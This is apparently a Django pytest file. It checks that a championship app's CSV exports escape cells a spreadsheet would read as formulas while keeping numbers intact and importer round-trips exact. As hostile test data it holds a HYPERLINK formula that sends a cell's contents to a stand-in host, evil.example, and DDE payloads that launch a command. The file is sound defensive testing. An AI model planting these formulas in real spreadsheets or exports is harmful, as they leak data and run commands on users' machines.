"""Every CSV file people download is safe to open in a spreadsheet (issue 14.2): no text cell
starts a formula, numbers stay numbers, and the files our importers read back still do."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from championships.bundle import season_export_zip, season_import
from championships.models import Championship, Penalty, PenaltyKind
from championships.results_import import results_import
from championships.table_choices import table_choices
from core.csv_export import csv_text
from entries.models import Driver, Team
from tests.factories import (
    EXAMPLE_SEASON,
    PROJECT_DIR,
    empty_the_database,
    make_championship,
    make_driver,
    make_entry,
    make_meeting,
    make_penalty,
    make_race,
    make_result,
    make_team,
)

# OWASP's list: what a spreadsheet may read as the start of a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Standings")'
COMMAND = "+cmd|' /C calc'!A0"
HOSTILE = (LINK, COMMAND, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0")

# The CSV addresses this test downloads, by URL name; a new one must be added here.
CSV_ADDRESSES = {"exports:race-csv", "exports:standings-csv", "entries:entry-list-csv"}
# The files read only by our importers: every cell kept exactly, so that a season round-trips.
MACHINE_READ_WRITERS = {"championships/bundle/export.py", "demo/seasons.py"}


def formula_cells(text: str) -> list[str]:
    """Every cell a spreadsheet would read as a formula: starting with a trigger, not a number."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c.lstrip(" ")[:1] in TRIGGERS and not NUMBER.fullmatch(c)]


@pytest.fixture
def hostile(db):
    """A round whose drivers, teams and stewards' reasons are formulas, and a -3 total."""
    championship = make_championship("hostile-cup")
    meeting = make_meeting(championship)
    race = make_race(meeting)
    entries = [
        make_entry(
            championship,
            number,
            driver=make_driver(name, HOSTILE[-number], category="GOLD"),
            team=make_team(f"{name} Racing"),
        )
        for number, name in enumerate(HOSTILE, start=1)
    ]
    for position, seconds in ((1, 0), (2, 1.5), (3, 9)):
        time = dt.timedelta(minutes=30, seconds=seconds)
        laps = 14 if position == 3 else 15
        make_result(race, entries[position - 1], position, laps=laps, total_time=time)
    make_result(race, entries[3], None)
    make_penalty(entries[2], PenaltyKind.TIME, race=race, reason=COMMAND)
    make_penalty(entries[3], PenaltyKind.POINTS, meeting=meeting, value=Decimal(3), reason=LINK)
    return championship, meeting, race


def downloads(client, staff_client, championship, meeting, race) -> dict[str, str]:
    """Every CSV export, by what it is."""
    slug = championship.slug
    race_kwargs = {"slug": slug, "round": meeting.round, "number": race.number}
    codes = championship.classes.values_list("code", flat=True)
    standings = {
        f"standings {c.value}": client.get(
            reverse("exports:standings-csv", kwargs={"slug": slug}), {"table": c.value}
        )
        for c in table_choices(list(codes))
    }
    admin_list = reverse("admin:entries_entry_entry_list", args=[meeting.pk, "csv"])
    command = io.StringIO()
    call_command("export_entry_list", slug, str(meeting.round), stdout=command)
    files = {
        "race": client.get(reverse("exports:race-csv", kwargs=race_kwargs)),
        **standings,
        "admin entry list": staff_client.get(admin_list),
        "public entry list": client.get(
            reverse("entries:entry-list-csv", kwargs={"slug": slug, "round": meeting.round})
        ),
    }
    return {name: r.content.decode() for name, r in files.items()} | {"command": command.getvalue()}


def test_no_csv_export_has_a_cell_a_spreadsheet_reads_as_a_formula(client, staff_client, hostile):
    files = downloads(client, staff_client, *hostile)

    assert {name: formula_cells(text) for name, text in files.items()} == dict.fromkeys(files, [])


def test_hostile_text_is_kept_whole_behind_a_single_quote(client, staff_client, hostile):
    files = downloads(client, staff_client, *hostile)

    race = list(csv.DictReader(io.StringIO(files["race"])))
    assert [r["DRIVER"] for r in race] == [f"'{n} {HOSTILE[-i]}" for i, n in enumerate(HOSTILE, 1)]
    assert race[2]["DECISIONS"] == f"'{COMMAND}"
    assert race[0]["TEAM"] == f"'{LINK} Racing"
    entry_list = list(csv.DictReader(io.StringIO(files["command"])))
    assert entry_list[0]["driver"] == f"'{LINK} {HOSTILE[-1]}"


def test_numbers_stay_numbers_a_negative_total_too(client, staff_client, hostile):
    files = downloads(client, staff_client, *hostile)

    drivers = list(csv.DictReader(io.StringIO(files["standings drivers"])))
    last = next(row for row in drivers if row["NO"] == "4")
    assert (last["POINTS"], last["DEDUCTIONS"]) == ("-3", "3")
    race = list(csv.DictReader(io.StringIO(files["race"])))
    assert [r["GAP"] for r in race] == ["", "+1.500", "'+1 lap", ""]


def test_the_race_csv_with_hostile_names_still_reads_back(client, hostile):
    championship, meeting, race = hostile
    kwargs = {"slug": championship.slug, "round": meeting.round, "number": race.number}

    response = client.get(reverse("exports:race-csv", kwargs=kwargs))

    again = results_import(race=race, source=response.content, dry_run=True)
    assert again.unchanged == 4 and not again.changed


def texts() -> tuple[list, list, list]:
    """The bundle's free texts: drivers' names, teams' names, stewards' reasons."""
    return (
        sorted(Driver.objects.values_list("first_name", "last_name")),
        sorted(Team.objects.values_list("name", flat=True)),
        sorted(Penalty.objects.values_list("reason", flat=True)),
    )


def test_a_hostile_driver_team_and_reason_round_trip_exactly_in_the_season_bundle(db):
    season_import(EXAMPLE_SEASON)
    Driver.objects.filter(pk=Driver.objects.order_by("pk").first().pk).update(
        first_name=LINK, last_name=COMMAND
    )
    Team.objects.filter(pk=Team.objects.order_by("pk").first().pk).update(name=HOSTILE[2])
    Penalty.objects.filter(pk=Penalty.objects.order_by("pk").first().pk).update(reason=HOSTILE[3])
    before = texts()
    data = season_export_zip(Championship.objects.get(slug="pcca-2024"))
    empty_the_database()

    season_import(io.BytesIO(data))

    assert texts() == before
    assert (LINK, COMMAND) in before[0] and HOSTILE[2] in before[1] and HOSTILE[3] in before[2]


def test_the_writer_decides_per_column():
    text = csv_text(
        ("NAME", "POINTS"),
        [("-3", "-3"), ("=1+1", "=1+1"), (" @x", Decimal("-12.5")), ({"NAME": None}), ("\tx", 7)],
        numbers=("POINTS",),
    )

    assert list(csv.reader(io.StringIO(text))) == [
        ["NAME", "POINTS"],
        ["'-3", "-3"],
        ["'=1+1", "'=1+1"],
        ["' @x", "-12.5"],
        ["", ""],
        ["'\tx", "7"],
    ]


def csv_routes(patterns, prefix: str = "") -> set[str]:
    """The names of every URL whose address ends in .csv."""
    found = set()
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            found |= csv_routes(pattern.url_patterns, namespace)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv"):
            found.add(f"{prefix}{pattern.name}")
    return found


def test_every_csv_address_is_checked_here():
    assert csv_routes(get_resolver().url_patterns) == CSV_ADDRESSES


def test_no_module_writes_csv_but_the_one_writer_and_the_importers_files():
    writers = {
        str(path.relative_to(PROJECT_DIR))
        for app in (
            "cupmanager",
            "core",
            "staff",
            "championships",
            "entries",
            "talentpool",
            "public",
            "demo",
        )
        for path in (PROJECT_DIR / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }

    assert writers == {"core/csv_export.py", *MACHINE_READ_WRITERS}
